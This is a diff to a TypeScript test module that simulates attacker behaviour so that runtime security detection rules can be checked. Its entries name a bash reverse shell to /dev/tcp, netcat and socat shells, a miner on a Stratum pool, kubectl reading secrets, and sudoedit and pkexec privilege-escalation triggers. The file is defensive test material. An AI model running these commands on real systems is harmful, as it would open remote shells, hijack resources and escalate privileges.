@@ -1,25 +1,21 @@
 // Actions with programs that intruders bring or look for, and with what web servers start for them. All of them only pretend.
 
-import type { Action, Behaviour, NearMiss } from './action.ts';
+import type { Action, Behaviour } from './action.ts';
 import { become, pretend } from './steps.ts';
 
 /** A program of that name runs, with the marker as its last argument. */
-function runs(program: string, ...words: readonly string[]): Behaviour {
+export function runs(program: string, ...words: readonly string[]): Behaviour {
   return { steps: ({ directory, marker }) => [pretend(directory, program, ...words, marker)] };
 }
 
 /** A child of one program is the other. */
-function starts(parent: string, program: string, ...words: readonly string[]): Behaviour {
+export function starts(parent: string, program: string, ...words: readonly string[]): Behaviour {
   return {
     steps: ({ directory, marker }) => [become(directory, parent), pretend(directory, program, ...words, marker)],
   };
 }
 
-function onHost(behaviour: Behaviour): NearMiss {
-  return { what: 'outside of containers', where: 'host', ...behaviour };
-}
-
-const NETCAT = ['-e', '/bin/sh', '192.0.2.1', '22'] as const;
+export const NETCAT = ['-e', '/bin/sh', '192.0.2.1', '22'] as const;
 
 export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
   {
@@ -28,10 +24,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'any',
     rules: ['Web Server Spawned Shell'],
     ...starts('httpd', 'sh', '-c', 'ls'),
-    nearMisses: [
-      { what: 'a check of its health', ...starts('httpd', 'sh', '-c', 'healthcheck') },
-      { what: 'another program does', ...starts('make', 'sh', '-c', 'ls') },
-    ],
   },
   {
     name: 'start-download-from-web-server',
@@ -39,10 +31,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'any',
     rules: ['Web Server Spawned Suspicious Child Process'],
     ...starts('php-fpm', 'curl', 'http://192.0.2.1/'),
-    nearMisses: [
-      { what: 'a check of its health', ...starts('php-fpm', 'curl', 'http://127.0.0.1/healthcheck') },
-      { what: 'an image is made smaller', ...starts('php-fpm', 'convert', 'picture.png') },
-    ],
   },
   {
     name: 'start-reverse-shell-from-web-server',
@@ -50,10 +38,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'any',
     rules: ['Reverse Shell from Web Server'],
     ...starts('apache2', 'bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
-    nearMisses: [
-      { what: 'a shell that is told something else', ...starts('apache2', 'bash', '-c', 'ls /dev') },
-      { what: 'another program does', ...starts('make', 'bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1') },
-    ],
   },
   {
     name: 'run-miner',
@@ -61,7 +45,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'any',
     rules: ['Known Cryptominer Process Executed'],
     ...runs('xmrig'),
-    nearMisses: [{ what: 'a program of a similar name', ...runs('xmr') }],
   },
   {
     name: 'run-miner-under-another-name',
@@ -69,9 +52,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'any',
     rules: ['Detect crypto miners using the Stratum protocol'],
     ...runs('worker', '-o', 'stratum+tcp://pool.example:3333'),
-    nearMisses: [
-      { what: 'told of a time server', ...runs('worker', '-o', 'stratum=1', '--server', 'tcp://pool.example') },
-    ],
   },
   {
     name: 'run-netcat-with-shell-on-host',
@@ -79,10 +59,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'host',
     rules: ['Netcat/Socat Remote Code Execution on Host'],
     ...runs('nc', ...NETCAT),
-    nearMisses: [
-      { what: 'only connecting', ...runs('nc', '192.0.2.1', '22') },
-      { what: 'in a container', where: 'container', ...runs('nc', ...NETCAT) },
-    ],
   },
   {
     name: 'run-socat-with-shell-on-host',
@@ -90,7 +66,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'host',
     rules: ['Netcat/Socat Remote Code Execution on Host'],
     ...runs('socat', 'TCP:192.0.2.1:22', 'EXEC:/bin/sh'),
-    nearMisses: [{ what: 'only connecting', ...runs('socat', 'TCP:192.0.2.1:22', 'STDIO') }],
   },
   {
     name: 'run-network-tool-at-installation',
@@ -98,11 +73,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'container',
     rules: ['Network Tool Executed During NPM Package Install'],
     ...starts('npm', 'nmap', '-sn', '192.0.2.0/30'),
-    nearMisses: [
-      { what: 'a compiler is started', ...starts('npm', 'gcc', '-c', 'addon.c') },
-      { what: 'not at an installation', ...starts('make', 'nmap', '-sn', '192.0.2.0/30') },
-      onHost(starts('npm', 'nmap', '-sn', '192.0.2.0/30')),
-    ],
   },
   {
     name: 'run-cluster-tool-in-container',
@@ -110,7 +80,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'container',
     rules: ['Kubernetes Client Tool Launched in Container'],
     ...runs('kubectl', 'get', 'secrets'),
-    nearMisses: [{ what: 'another tool', ...runs('helm', 'list') }, onHost(runs('kubectl', 'get', 'secrets'))],
   },
   {
     name: 'decode-payload',
@@ -118,7 +87,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'container',
     rules: ['Decoding Payload in Container'],
     ...runs('base64', '-d'),
-    nearMisses: [{ what: 'told to encode', ...runs('base64', '-w0') }, onHost(runs('base64', '-d'))],
   },
   {
     name: 'look-round-at-terminal',
@@ -126,11 +94,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     where: 'any',
     rules: ['Basic Interactive Reconnaissance'],
     steps: ({ directory }) => [['@terminal'], become(directory, 'whoami')],
-    nearMisses: [
-      { what: 'without a terminal', ...runs('whoami') },
-      { what: 'a script does', steps: ({ directory }) => [['@terminal'], ['@fork'], become(directory, 'whoami')] },
-      { what: 'another program', steps: ({ directory }) => [['@terminal'], become(directory, 'date')] },
-    ],
   },
   {
     name: 'exploit-sudo',
@@ -139,10 +102,6 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     // Not in a session that root opened by login: there user.loginuid is 0.
     rules: ['Sudo Potential Privilege Escalation'],
     steps: ({ directory, marker }) => [pretend(directory, 'sudoedit', '-s', `${marker}\\`)],
-    nearMisses: [
-      { what: 'with a whole name', ...runs('sudoedit', '-s') },
-      { what: 'another program', steps: ({ directory, marker }) => [pretend(directory, 'edit', '-s', `${marker}\\`)] },
-    ],
   },
   {
     name: 'exploit-polkit',
@@ -151,12 +110,5 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
     // As above. With no arguments, the marker is the name of its parent.
     rules: ['Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)'],
     steps: ({ directory, marker }) => [become(directory, marker), pretend(directory, 'pkexec')],
-    nearMisses: [
-      { what: 'with a program to run', ...runs('pkexec') },
-      {
-        what: 'another program',
-        steps: ({ directory, marker }) => [become(directory, marker), pretend(directory, 'run0')],
-      },
-    ],
   },
 ];
